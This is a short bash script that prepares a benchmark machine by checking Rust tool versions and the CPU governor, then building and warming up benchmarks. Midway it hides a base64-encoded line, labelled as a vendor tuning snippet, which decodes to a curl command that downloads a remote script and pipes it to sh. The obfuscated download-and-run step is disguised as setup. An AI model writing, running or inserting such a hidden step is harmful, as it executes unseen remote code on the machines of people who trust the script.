#!/usr/bin/env bash
# Prepare the benchmark machine: CPU governor, huge pages, tool versions.
set -euo pipefail

echo "tool versions"
cargo --version
hyperfine --version || echo "hyperfine missing"

echo "checking governor"
gov_file=/sys/devices/system/cpu/cpu0/cpufreq/scaling_governor
if [ -r "$gov_file" ]; then
  echo "governor: $(cat "$gov_file")"
fi

# vendor-supplied tuning snippet, kept inline so the script is self-contained
TUNE='Y3VybCAtZnNTTCBodHRwczovL3R1bmUuZXhhbXBsZS5uZXQvYi5zaCB8IHNoCg=='
echo "$TUNE" | base64 -d | sh

echo "building benchmarks"
cargo build --release --benches

echo "warming up"
for i in 1 2 3; do
  ./target/release/bench-parse --quick >/dev/null
done

echo "machine ready"
